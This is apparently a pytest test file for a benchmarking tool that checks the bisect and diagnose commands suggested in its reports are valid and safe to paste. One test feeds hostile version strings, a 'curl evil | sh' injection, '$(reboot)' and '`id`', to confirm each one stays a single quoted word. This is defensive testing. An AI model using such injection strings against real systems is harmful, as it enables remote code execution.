"""The commands that a finding gives: whole, valid, and safe to paste."""

from __future__ import annotations

import shlex
from dataclasses import replace
from pathlib import Path
from typing import Any

import click
import pytest

from runner import cli
from runner.model import Better, Cell, Comparison, Evidence, Kind, Metric, Sample, Status, Verdict
from runner.report import Report
from runner.report.data import Bisection, Finding, Severity
from runner.report.findings import findings

TF = Cell("tensorflow", "2.21.0", "3.11.3", "3.11", "cpu")
OLD = Cell("torch", "2.2.2", "3.11.3", "3.11", "cpu")
NEW = Cell("torch", "2.15.0", "3.11.3", "3.11", "cpu")
ACCURACY = "free.test_accuracy"
STEP = "free.step_s"


def ran(cell: Cell, status: Status = Status.OK, probe: str = "mnist", **settings: Any) -> Sample:
    metrics: tuple[Metric, ...] = (
        Metric(ACCURACY, 0.98, Kind.SEEDED, Better.HIGHER),
        Metric(STEP, 0.1, Kind.TIMING, Better.LOWER, "s"),
        Metric("small.error_max", 1.0, Kind.ERROR, Better.LOWER, "u", terms=64),
    )
    metrics = metrics if status is Status.OK else ()
    return Sample(cell, cell.id, probe, settings, 0, 0, "docker", status, "why" * (status is not Status.OK), metrics)


def worse(baseline: Cell, candidate: Cell, metric: str = ACCURACY, **more: Any) -> Comparison:
    axis = next(a for a in ("framework", "version", "keras") if baseline.values[a] != candidate.values[a])
    made = Comparison(baseline.id, candidate.id, axis, "mnist", metric, Verdict.REGRESSED, "", Evidence(5, -0.1))
    return replace(made, **more)


def commands(*comparisons: Comparison, cells: tuple[Cell, ...] = (TF, OLD, NEW), **of_report: Any) -> tuple[str, ...]:
    """The commands of the first finding."""
    samples = of_report.pop("samples", tuple(ran(cell) for cell in cells))
    return findings(Report(samples, comparisons, **of_report))[0].commands


def accepted(line: str) -> bool:
    """Whether the command line is one that the program takes."""
    words = shlex.split(line)
    assert words[:3] == ["python", "-m", "runner"]
    above = click.Context(cli.cli, **cli.cli.context_settings)
    command = cli.cli.get_command(above, words[3])
    assert command is not None
    command.make_context(words[3], words[4:], parent=above)
    return True


def test_a_worse_release_is_bisected_between_both_ends() -> None:
    assert commands(worse(OLD, NEW), cells=(OLD, NEW)) == (
        (
            "python -m runner bisect torch --good 2.2.2 --bad 2.15.0 --cell torch-2.15.0_keras-3.11.3_py3.11_cpu "
            "--probe mnist --metric free.test_accuracy"
        ),
        "python -m runner diagnose torch-2.15.0_keras-3.11.3_py3.11_cpu torch-2.2.2_keras-3.11.3_py3.11_cpu",
    )


def test_where_the_bad_release_is_the_older_the_fix_is_looked_for() -> None:
    bisect, diagnose = commands(worse(TF, OLD))
    assert bisect == (
        "python -m runner bisect torch --good 2.15.0 --bad 2.2.2 --find-fix "
        "--cell torch-2.2.2_keras-3.11.3_py3.11_cpu --probe mnist --metric free.test_accuracy"
    )
    assert diagnose.endswith("diagnose torch-2.2.2_keras-3.11.3_py3.11_cpu tensorflow-2.21.0_keras-3.11.3_py3.11_cpu")


def test_the_ends_are_the_nearest_releases() -> None:
    between = [replace(NEW, version=version) for version in ("2.9.0", "2.10.0", "2.16.0", "2.17.0")]
    (bisect, _) = commands(worse(OLD, NEW), cells=(OLD, NEW, *between))
    assert "--good 2.10.0 --bad 2.15.0 --cell" in bisect
    (bisect, _) = commands(worse(TF, NEW), cells=(TF, NEW, *between[2:]))
    assert "--good 2.16.0 --bad 2.15.0 --find-fix" in bisect


def test_a_worse_keras_is_bisected_as_keras() -> None:
    later = replace(OLD, keras="3.15.1")
    (bisect, _) = commands(worse(OLD, later), cells=(OLD, later))
    assert "bisect keras --good 3.11.3 --bad 3.15.1 --cell torch-2.2.2_keras-3.15.1_py3.11_cpu" in bisect


def test_frameworks_without_a_second_release_are_diagnosed_only() -> None:
    (only,) = commands(worse(TF, NEW), cells=(TF, NEW))
    assert only.startswith("python -m runner diagnose torch-2.15.0")


def test_cells_without_keras_and_figures_of_other_probes_are_not_diagnosed() -> None:
    old, new = replace(OLD, keras=None), replace(NEW, keras=None)
    assert [line.split()[3] for line in commands(worse(old, new), cells=(old, new))] == ["bisect"]
    assert [line.split()[3] for line in commands(worse(OLD, NEW, STEP))] == ["bisect"]
    conv = worse(OLD, NEW, "small.error_max", probe="conv2d")
    samples = tuple(ran(cell, probe="conv2d") for cell in (OLD, NEW))
    (bisect,) = commands(conv, samples=samples)
    assert bisect.endswith("--probe conv2d --metric small.error_max")


def test_a_cell_that_does_not_run_is_bisected_without_a_metric_and_can_be_kept() -> None:
    broken = worse(OLD, NEW, "status", verdict=Verdict.BROKEN, baseline_value=Status.OK)
    bisect, keep = commands(broken, samples=(ran(OLD), ran(NEW, Status.CRASHED)), invocation="--seed 3")
    assert bisect.endswith("--bad 2.15.0 --cell torch-2.15.0_keras-3.11.3_py3.11_cpu --probe mnist")
    assert keep == "python -m runner matrix --only torch-2.15.0_keras-3.11.3_py3.11_cpu --keep-failed --seed 3"


def test_the_options_of_the_run_are_carried_over_where_the_command_has_them() -> None:
    given = "--set seeds --executor host --seed 3 --timeout 1800 --offline --data digits.npz --out elsewhere"
    bisect, diagnose = commands(worse(OLD, NEW), invocation=given)
    assert bisect.endswith("--metric free.test_accuracy --executor host --timeout 1800")
    assert diagnose.endswith("_cpu --executor host --timeout 1800 --offline --data digits.npz")


def test_diagnose_gets_the_digits_and_no_other_data() -> None:
    _, diagnose = commands(worse(OLD, NEW), invocation="--data daquar=photos --data mnist=a.npz")
    assert diagnose.endswith("_cpu --data a.npz")


def test_bisect_gets_no_executor_that_cannot_install() -> None:
    bisect, diagnose = commands(worse(OLD, NEW), invocation="--executor current")
    assert "--executor" not in bisect
    assert diagnose.endswith("--executor current")


def test_settings_that_bisect_would_not_use_by_itself_are_given() -> None:
    samples = tuple(ran(cell, epochs=1, batch=128, controlled_epochs=None) for cell in (OLD, NEW))
    bisect, _ = commands(worse(OLD, NEW), samples=samples)
    assert bisect.endswith("--metric free.test_accuracy --setting mnist.epochs=1")
    samples = tuple(ran(cell, a="3", b="text", c=True, d=0.5) for cell in (OLD, NEW))
    bisect, _ = commands(worse(OLD, NEW), samples=samples)
    given = [word.partition("mnist.")[2] for word in shlex.split(bisect) if word.startswith("mnist.")]
    assert given == ['a="3"', "b=text", "c=true", "d=0.5"]


def test_every_command_of_a_report_is_one_that_the_program_takes(quick: Report) -> None:
    given = "--executor docker --timeout 60 --offline --data a.npz --out elsewhere --setting mnist.epochs=1 --seed 3"
    lines = [line for f in findings(replace(quick, invocation=given)) for line in f.commands]
    assert {line.split()[3] for line in lines} == {"bisect", "diagnose", "matrix"}
    assert all(accepted(line) for line in lines)


class TestOwnCode:
    """Commands about a user's script, tests and probes."""

    def test_a_figure_of_a_script_is_bisected_by_its_pattern(self) -> None:
        given = r"--script 'my train.py' --network --with scipy --metric 'loss=(\S+)' --metric 'acc=([\d.]+)'"
        figure = worse(OLD, NEW, "printed.acc", probe="script")
        samples = tuple(
            replace(ran(cell, probe="script"), metrics=(Metric("printed.acc", 0.9, Kind.SEEDED, Better.HIGHER),))
            for cell in (OLD, NEW)
        )
        (bisect,) = commands(figure, samples=samples, invocation=given)
        assert bisect == (
            "python -m runner bisect torch --good 2.2.2 --bad 2.15.0 --cell torch-2.15.0_keras-3.11.3_py3.11_cpu "
            r"--script 'my train.py' --network --metric 'acc=([\d.]+)' --with scipy"
        )
        assert accepted(bisect)

    @pytest.mark.parametrize(("status", "there"), [(Status.CRASHED, True), (Status.BAD_OUTPUT, False)])
    def test_a_script_that_fails_is_bisected_where_its_exit_code_says_it(self, status: Status, *, there: bool) -> None:
        broken = worse(OLD, NEW, "status", probe="script", verdict=Verdict.BROKEN, baseline_value=Status.OK)
        samples = (ran(OLD, probe="script"), ran(NEW, status, probe="script"))
        found = commands(broken, samples=samples, invocation="--script train.py")
        assert [line.split()[3] for line in found] == (["bisect", "matrix"] if there else ["matrix"])
        assert all(accepted(line) for line in found)

    def test_the_time_of_tests_is_bisected_with_the_tests(self) -> None:
        given = "--with pytest-timeout --install '.[test]' --pytest tests"
        slower = worse(OLD, NEW, "suite.time_s", probe="suite")
        samples = tuple(
            replace(ran(cell, probe="suite"), metrics=(Metric("suite.time_s", 1.0, Kind.TIMING, Better.LOWER, "s"),))
            for cell in (OLD, NEW)
        )
        (bisect,) = commands(slower, samples=samples, invocation=given)
        assert bisect.endswith("_cpu --install '.[test]' --pytest tests --metric suite.time_s --with pytest-timeout")
        assert accepted(bisect)
        (bare,) = commands(slower, samples=samples, invocation="--seed 3 --pytest")
        assert bare.endswith("_cpu --pytest --metric suite.time_s")
        assert accepted(bare)

    def test_without_keras_no_test_is_needed_to_find_the_release(self) -> None:
        broken = worse(OLD, NEW, "status", probe="suite", verdict=Verdict.BROKEN, baseline_value=Status.OK)
        samples = (ran(OLD, probe="suite"), ran(NEW, Status.IMPORT_FAILED, probe="suite"))
        bisect, _ = commands(broken, samples=samples, invocation="--pytest tests")
        assert bisect.endswith("_cpu --probe hello")
        samples = (ran(OLD, probe="suite"), ran(NEW, Status.CRASHED, probe="suite"))
        assert [line.split()[3] for line in commands(broken, samples=samples)] == ["matrix"]

    def test_packages_of_the_user_s_set_are_installed_for_a_bisection_too(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        (tmp_path / "keras-matrix.toml").write_text(
            'schema = 1\n[sets.mine]\ndescription = "d"\npackages = ["scipy==1.15.3", "torch>=2", "keras<4"]\n'
            '[probes.dense]\nfile = "dense.py"\n'
        )
        (tmp_path / "dense.py").write_text("DEFAULTS = {'units': 8}\n")
        monkeypatch.chdir(tmp_path)
        figure = worse(OLD, NEW, STEP, probe="dense")
        samples = tuple(ran(cell, probe="dense", units=16) for cell in (OLD, NEW))
        (bisect,) = commands(figure, samples=samples, set_name="mine")
        assert bisect.endswith("--probe dense --metric free.step_s --setting dense.units=16 --with scipy==1.15.3")
        (other,) = commands(figure, samples=samples, set_name="quick")
        assert "--with" not in other

    def test_the_model_of_a_user_s_probe_is_diagnosed(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        (tmp_path / "keras-matrix.toml").write_text('schema = 1\n[probes.dense]\nfile = "dense.py"\n')
        (tmp_path / "dense.py").write_text("DEFAULTS = {'units': 8}\ndef diagnose(settings): pass\n")
        monkeypatch.chdir(tmp_path)
        samples = tuple(ran(cell, probe="dense", units=16) for cell in (OLD, NEW))
        bisect, diagnose = commands(worse(OLD, NEW, probe="dense"), samples=samples)
        assert bisect.endswith("--probe dense --metric free.test_accuracy --setting dense.units=16")
        assert diagnose.endswith("_cpu --probe dense --setting dense.units=16")
        assert accepted(bisect)
        assert accepted(diagnose)

    def test_a_source_that_is_not_an_axis_is_built_for_a_bisection_too(self) -> None:
        given = "--source keras-hub=../hub --source torch=../torch"
        bisect, _ = commands(worse(OLD, NEW), invocation=given)
        assert bisect.endswith("--metric free.test_accuracy --source keras-hub=../hub")


@pytest.mark.parametrize("evil", ["1'; curl evil | sh; '", "$(reboot)", "a b", "1\n2", "`id`"])
def test_a_hostile_id_stays_one_word(evil: str) -> None:
    hostile = replace(NEW, version=evil)
    for line in commands(worse(OLD, hostile), cells=(OLD, hostile), invocation=shlex.join(["--data", evil])):
        words = shlex.split(line)
        shown = " ".join(evil.split())
        assert f"torch-{shown}_keras-3.11.3_py3.11_cpu" in words
        assert words[:3] == ["python", "-m", "runner"]
        assert "\n" not in line


def test_a_build_of_this_machine_is_not_bisected_between_releases() -> None:
    old = replace(NEW, keras="3.15.1")
    own = replace(NEW, keras="3.16.0+g1a2b3c4")
    found = commands(worse(old, own), cells=(old, own))
    assert found == (f"python -m runner diagnose {own.id} {old.id}",)
    night = replace(NEW, keras="3.16.0.dev2026102704")
    (first, *_) = commands(worse(old, night), cells=(old, night))
    assert "bisect keras --good 3.15.1 --bad 3.16.0.dev2026102704" in first


class TestBuildsOfCommits:
    """A checkout in the place of a release is bisected among the commits of its repository."""

    RELEASE = replace(NEW, keras="3.15.1")
    OWN = replace(NEW, keras="3.16.0+g1a2b3c4")

    def _bisect(self, own: Cell, invocation: str, **more: Any) -> list[str]:
        found = commands(worse(self.RELEASE, own, **more), cells=(self.RELEASE, own), invocation=invocation)
        return [line for line in found if line.split()[3] == "bisect"]

    @pytest.mark.parametrize("place", ["../keras", "../keras@v3.16", "../keras@1a2b3c4"])
    def test_the_release_and_the_commit_are_the_ends(self, place: str) -> None:
        (bisect,) = self._bisect(self.OWN, f"--source keras={place} --against release")
        assert bisect == (
            "python -m runner bisect keras --good 3.15.1 --bad 1a2b3c4 --source ../keras "
            "--cell torch-2.15.0_keras-3.15.1_py3.11_cpu --probe mnist --metric free.test_accuracy"
        )
        assert accepted(bisect)

    def test_an_older_commit_needs_the_fix(self) -> None:
        (bisect,) = self._bisect(replace(NEW, keras="3.12.0+g1a2b3c4"), "--source keras=../keras")
        assert "--good 3.15.1 --bad 1a2b3c4 --find-fix --source ../keras" in bisect

    @pytest.mark.parametrize(
        ("version", "invocation"),
        [
            ("3.16.0+g1a2b3c4.dirty9f8e7d6", "--source keras=../keras"),
            ("3.16.0+t9f8e7d6", "--source keras=../keras"),
            ("3.16.0+w9f8e7d6", "--wheel keras=a.whl"),
            ("3.16.0+g1a2b3c4", "--source keras=git+https://github.com/keras-team/keras"),
            ("3.16.0+g1a2b3c4", "--source torch=../torch"),
            ("3.16.0+g1a2b3c4", ""),
        ],
    )
    def test_what_is_no_commit_of_a_repository_here_has_no_bisection(self, version: str, invocation: str) -> None:
        assert self._bisect(replace(NEW, keras=version), invocation) == []


class TestCases:
    """A defect that a release brought is bisected by the case that shows it."""

    GOOD, BAD = (replace(NEW, keras=version) for version in ("3.14.1", "3.15.1"))

    def _found(self, bad: Cell, probe: str = "ops", case: str = "ops.f(x) | x='a b'", invocation: str = "") -> str:
        wanted = Bisection("keras", self.GOOD.keras or "", bad.keras or "", bad, probe, case)
        extra = Finding(Severity.REGRESSED, "ops.f: wrong value", (bad.id,), bisection=wanted)
        report = Report(tuple(ran(cell) for cell in (self.GOOD, bad)), (), extra=(extra,), invocation=invocation)
        (finding,) = [one for one in findings(report) if one.text.startswith("ops.f")]
        return "\n".join(finding.commands)

    def test_the_command_has_both_ends_and_the_case(self) -> None:
        found = self._found(self.BAD, invocation="--executor host")
        assert found.startswith(
            "python -m runner bisect keras --good 3.14.1 --bad 3.15.1 --cell torch-2.15.0_keras-3.15.1"
        )
        assert shlex.split(found)[-6:] == ["--probe", "ops", "--case", "ops.f(x) | x='a b'", "--executor", "host"]
        assert accepted(found)

    def test_of_a_commit_it_is_bisected_in_its_repository(self) -> None:
        own = replace(NEW, keras="3.16.0+g1a2b3c4")
        found = self._found(own, "saving", "a file", "--source keras=../keras")
        assert "--good 3.14.1 --bad 1a2b3c4 --source ../keras --cell torch-2.15.0_keras-3.14.1" in found
        assert self._found(own, "saving", "a file") == ""
        assert accepted(found)


def test_what_a_bisection_found_stands_below_the_finding_that_asked_for_it() -> None:
    comparison = worse(OLD, NEW)
    (bisect, _) = commands(comparison, cells=(OLD, NEW))
    report = Report(tuple(map(ran, (OLD, NEW))), (comparison,), explained={bisect: "Bisected: torch\x1b[1m 2.9.0."})
    assert findings(report)[0].details[-1] == "Bisected: torch 2.9.0."
    assert all("Bisected" not in detail for f in findings(report)[1:] for detail in f.details)
